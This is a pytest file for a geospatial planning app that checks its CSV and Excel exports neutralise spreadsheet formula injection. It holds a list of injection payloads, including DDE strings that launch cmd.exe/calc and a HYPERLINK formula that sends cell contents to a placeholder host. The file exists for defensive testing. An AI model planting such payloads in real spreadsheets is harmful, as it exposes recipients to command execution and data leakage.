"""Spreadsheet safety: no CSV or XLSX the product writes holds a live formula.

A registry and a planner's list carry formula payloads (OWASP CSV injection:
``=``, ``+``, ``-``, ``@``, tab, carriage return, DDE) in every text field.
Every format the product writes is produced from them and opened as a
spreadsheet would open it; the files are then read back with the product's
own readers, and no cell may come back armed.
"""

from __future__ import annotations

import ast
import csv
import io
import subprocess
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from geo_app._cells import (
    DEFUSING_QUOTE,
    FORMULA_TRIGGERS,
    csv_text,
    defuse_frame,
    defuse_text,
    is_live_formula,
    tidy_cell,
)
from geo_app.batch import read_table
from geo_app.cli import main
from geo_app.config import Settings
from geo_app.exports import csv_bytes, workbook_sheets, xlsx_bytes
from geo_app.pipeline import load_carriers
from geo_app.registry import read_registry, read_targets
from geo_app.targets import gap_table
from layers.files import write_csv

REPO = Path(__file__).resolve().parents[1]

#: Formula payloads: OWASP's examples, DDE forms, the hidden-first-character
#: forms (tab, CR, line feed, spaces) and text that only looks like a number.
PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://x/"&A1,"a")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "   =1+1",
    "\u3000=1+1",
    "=1+1",
    "-5",
    "@x",
    "+86 379 6588 0000",
)

#: Look alike but never run: kept exactly.
HARMLESS: tuple[str, ...] = ("＝1+1", "周山智慧岛", "1+1", "a=1")

_TEXT_FIELDS = ("name_zh", "name_en", "district_as_written", "source_phrases", "aliases", "note")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def live_csv_cells(data: bytes) -> list[str]:
    """Cells of a CSV file that a spreadsheet could run (numbers are not formulas)."""
    text = data.decode("utf-8-sig")
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if is_live_formula(cell) and not _is_number(cell)
    ]


def live_xlsx_cells(data: bytes) -> list[str]:
    """Formula cells, and text cells that start like one, of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and is_live_formula(cell.value))
    ]


def live_read_cells(frame: pd.DataFrame) -> list[str]:
    """Text cells and headers of a frame read back that came back armed."""
    cells = [str(c) for c in frame.columns]
    for col in frame.columns:
        cells += [v for v in frame[col] if isinstance(v, str)]
    return [c for c in cells if is_live_formula(c)]


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


@pytest.fixture(scope="module")
def payload_registry(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped registry plus one carrier per payload, the payload in every text field."""
    src = pd.read_csv(REPO / "data" / "carriers.csv", dtype=str, keep_default_na=False)
    rows = []
    for i, payload in enumerate(PAYLOADS + HARMLESS):
        row = src.iloc[i % len(src)].copy()
        row["id"] = f"{payload}#{i}"
        row["source_files"] = row["source_files"].split("|")[0]
        for field in _TEXT_FIELDS:
            # One source phrase per file: a payload's "|" would split it.
            row[field] = payload.replace("|", "/") if field == "source_phrases" else payload
        rows.append(row)
    path = tmp_path_factory.mktemp("payloads") / "registry.csv"
    table = pd.concat([src, pd.DataFrame(rows)], ignore_index=True)
    table.to_csv(path, index=False, encoding="utf-8", quoting=csv.QUOTE_ALL)
    return path


@pytest.fixture(scope="module")
def payload_frames(payload_registry: Path) -> dict[str, pd.DataFrame]:
    """What the Export tab offers for the payload registry (placed, unplaced, gaps)."""
    settings = Settings().with_overrides(registry=str(payload_registry))
    layers = load_carriers(settings)
    gaps = gap_table(
        read_targets(settings.targets_file),
        read_registry(settings.registry_file),
        set(layers.placed["id"]),
    )
    assert set(PAYLOADS) <= set(layers.placed["name_zh"]) | set(layers.unplaced["name_zh"])
    return {"placed": layers.placed, "unplaced": layers.unplaced, "gaps": gaps}


# --- the rule -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_every_payload_is_defused_once(payload: str) -> None:
    assert is_live_formula(payload)
    defused = defuse_text(payload)
    assert defused == DEFUSING_QUOTE + payload
    assert not is_live_formula(defused) and defuse_text(defused) == defused


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_harmless_text_is_kept(text: str) -> None:
    assert defuse_text(text) == text


def test_numbers_stay_numbers_and_text_numbers_are_quoted() -> None:
    frame = pd.DataFrame(
        {"n": [-5, 3], "x": [-0.4, 1.5], "text": ["-5", "=1+1"], "mixed": [-2, "+1"]}
    )
    out = defuse_frame(frame)
    assert out["n"].tolist() == [-5, 3] and out["x"].tolist() == [-0.4, 1.5]
    assert out["text"].tolist() == ["'-5", "'=1+1"] and out["mixed"].tolist() == [-2, "'+1"]
    assert str(out["n"].dtype) == "int64"


def test_headers_are_defused() -> None:
    assert list(defuse_frame(pd.DataFrame({"=1+1": [1], "name": [2]})).columns) == [
        "'=1+1",
        "name",
    ]


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    text = csv_text(pd.DataFrame({"a": ["x\r=1+1", "\r=2+2"], "b": [1, 2]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "b"], ["x\r=1+1", "1"], ["'\r=2+2", "2"]]


@given(st.text(alphabet=st.sampled_from([*FORMULA_TRIGGERS, " ", "\u3000", "'", "a", "1"])))
def test_reading_never_arms_a_cell(text: str) -> None:
    assert not is_live_formula(tidy_cell(defuse_text(text)))
    if is_live_formula(tidy_cell(text)):
        assert is_live_formula(text)
    assert defuse_text(defuse_text(text)) == defuse_text(text)


def test_the_registry_reader_keeps_the_guard_of_a_tab(tmp_path: Path) -> None:
    src = (REPO / "data" / "carriers.csv").read_text(encoding="utf-8").splitlines()
    header = next(csv.reader([src[0]]))
    row = dict(zip(header, next(csv.reader([src[1]])), strict=True))
    row.update(note="\t=1+1", name_en="  =2+2  ", aliases="a| \t=3+3 |'=4+4")
    path = tmp_path / "mine.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, header, quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerow(row)
    read = read_registry(path).iloc[0]
    assert read["note"] == "\t=1+1" and read["name_en"] == "  =2+2"
    assert read["id"] == row["id"]  # ordinary cells are still stripped


def test_the_targets_reader_keeps_the_guard_of_a_tab(tmp_path: Path) -> None:
    src = pd.read_csv(REPO / "data" / "targets.csv", dtype=str, keep_default_na=False)
    mine = src.iloc[:1].copy()
    mine["note"], mine["subject_zh"] = "\t=1+1", "'@SUM(1+1)"
    path = tmp_path / "targets.csv"
    mine.to_csv(path, index=False, encoding="utf-8", quoting=csv.QUOTE_ALL)
    read = read_targets(path).iloc[0]
    assert (read["note"], read["subject_zh"]) == ("\t=1+1", "'@SUM(1+1)")


# --- every writer ------------------------------------------------------------


def test_cli_export_csv(
    payload_registry: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["export", "--format", "csv", "--registry", str(payload_registry)]
    code, text = _run([*argv, "--out", str(tmp_path)], capsys)
    assert code == 0, text
    for name in ("carriers.csv", "unplaced.csv", "targets_vs_mapped.csv"):
        assert live_csv_cells((tmp_path / name).read_bytes()) == [], name
    exported = read_registry(tmp_path / "carriers.csv")  # the product reads its export back
    assert live_read_cells(exported) == []
    names = set(exported["name_zh"])
    for name in ("carriers.csv", "unplaced.csv", "targets_vs_mapped.csv"):
        frame, _ = read_table(tmp_path / name)  # and as a planner's list
        assert live_read_cells(frame) == [], name
        names |= set(frame.get("name_zh", []))
    assert {DEFUSING_QUOTE + p for p in PAYLOADS} <= names


def test_cli_export_xlsx(
    payload_registry: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "carriers.xlsx"
    argv = ["export", "--format", "xlsx", "--registry", str(payload_registry)]
    code, text = _run([*argv, "--out", str(out)], capsys)
    assert code == 0, text
    data = out.read_bytes()
    assert live_xlsx_cells(data) == []
    frame, _ = read_table(out)  # the batch import reads the first sheet
    assert live_read_cells(frame) == []
    assert {DEFUSING_QUOTE + p.replace("\r", "\n") for p in PAYLOADS[:5]} <= set(frame["name_zh"])


def test_app_download_bytes(payload_frames: dict[str, pd.DataFrame]) -> None:
    placed, unplaced, gaps = (
        payload_frames["placed"],
        payload_frames["unplaced"],
        payload_frames["gaps"],
    )
    assert live_xlsx_cells(xlsx_bytes(workbook_sheets(placed, unplaced, gaps))) == []
    data = csv_bytes(placed)
    assert live_csv_cells(data) == []
    # Written, read and written again: unchanged (no second quote, no loss).
    again = csv_bytes(pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False))
    assert again == csv_bytes(pd.read_csv(io.BytesIO(again), dtype=str, keep_default_na=False))


def test_excel_export_replaces_characters_excel_refuses() -> None:
    data = xlsx_bytes({"t": pd.DataFrame({"name": ["a\x00b", "\x01=1+1"]})})
    values = [c.value for c in next(iter(openpyxl.load_workbook(io.BytesIO(data)).worksheets))["A"]]
    assert values == ["name", "a\ufffdb", "\ufffd=1+1"]


def test_geocode_layer_and_review_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    n = len(PAYLOADS)
    listing = pd.DataFrame(
        {
            "名称": PAYLOADS,
            "地址": PAYLOADS,
            "区县": ["洛龙区"] * n,
            "经度": ["112.45"] * (n // 2) + [""] * (n - n // 2),
            "纬度": ["34.62"] * (n // 2) + [""] * (n - n // 2),
            "备注": PAYLOADS,
            '=HYPERLINK("http://x/")': PAYLOADS,
        }
    )
    src = tmp_path / "list.csv"
    listing.to_csv(src, index=False, encoding="utf-8", quoting=csv.QUOTE_ALL)
    out = tmp_path / "out" / "layer.csv"
    argv = ["geocode", str(src), "--city", "洛阳市", "--geocoders", "gazetteer"]
    code, text = _run([*argv, "--no-cache", "--quiet", "-o", str(out)], capsys)
    assert code in (0, 1), text
    review = out.with_name("layer_review.csv")
    for path in (out, review):
        assert live_csv_cells(path.read_bytes()) == [], path.name
        frame, _ = read_table(path)
        assert live_read_cells(frame) == [], path.name
    assert len(pd.read_csv(out, dtype=str)) == n  # given points, or the district


def test_extraction_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = tmp_path / "plan.txt"
    plan.write_text(
        "\n".join(
            f"{p}洛龙区{p}孵化器建成。到2025年,全市建成孵化载体不少于{i + 3}家{p}。"
            for i, p in enumerate(PAYLOADS)
        ),
        encoding="utf-8",
    )
    merged = tmp_path / "out" / "registry.csv"
    argv = ["extract", str(plan), "--city", "洛阳", "--out-dir", str(tmp_path / "out")]
    code, text = _run([*argv, "--merge-into", str(merged)], capsys)
    assert code == 0, text
    written = sorted((tmp_path / "out").glob("*.csv"))
    assert len(written) == 3
    for path in written:
        assert live_csv_cells(path.read_bytes()) == [], path.name


@pytest.mark.parametrize("frame_kind", ["table", "points", "polygons"])
def test_write_csv_behind_every_table_output(tmp_path: Path, frame_kind: str) -> None:
    """The analysis, siting, build and geocode tables are all written by ``write_csv``."""
    table = pd.DataFrame({"name": list(PAYLOADS), "value": range(len(PAYLOADS))})
    if frame_kind != "table":
        shapes = [shapely.Point(112.4, 34.6).buffer(0.01 if frame_kind == "polygons" else 0)]
        geo = shapes * len(PAYLOADS)
        table = gpd.GeoDataFrame(table, geometry=geo, crs=4326)
    path = write_csv(table, tmp_path / "t.csv")
    assert live_csv_cells(path.read_bytes()) == []
    assert read_table(path)[0]["name"].tolist()[:3] == [DEFUSING_QUOTE + p for p in PAYLOADS[:3]]


def _calls(tree: ast.AST, names: set[str]) -> Iterator[int]:
    for node in ast.walk(tree):
        call = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
        if call and node.func.attr in names:  # type: ignore[attr-defined]
            yield node.lineno


def test_every_spreadsheet_writer_goes_through_the_one_rule() -> None:
    """Only the cell module writes CSV text and only the export module writes Excel.

    ``pipeline.place_registry_frame`` writes a temporary file that is only
    read back to validate a frame, never given to anyone.
    """
    allowed = {
        ("geo_app/_cells.py", "to_csv"),
        ("geo_app/exports.py", "to_excel"),
        ("geo_app/storage.py", "to_csv"),  # write_csv_atomic: shipped data only
        ("geo_app/pipeline.py", "to_csv"),
        ("geo_app/siting/_cbc_matrix.py", "to_csv"),  # the numbers of a CBC model file
    }
    files = subprocess.run(
        ["git", "ls-files", "geo_app", "layers", "geocoding", "streamlit_app.py"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    found = []
    for name in [f for f in files if f.endswith(".py")]:
        path = REPO / name
        if not path.is_file():
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for attr in ("to_csv", "to_excel"):
            for line in _calls(tree, {attr}):
                if (name, attr) not in allowed:
                    found.append(f"{name}:{line} {attr}")
    assert found == []
    storage = (REPO / "geo_app" / "storage.py").read_text(encoding="utf-8")
    product = [f for f in files if f.endswith(".py") and f != "geo_app/storage.py"]
    users = [f for f in product if "write_csv_atomic(" in (REPO / f).read_text(encoding="utf-8")]
    assert "def write_csv_atomic" in storage and users == []
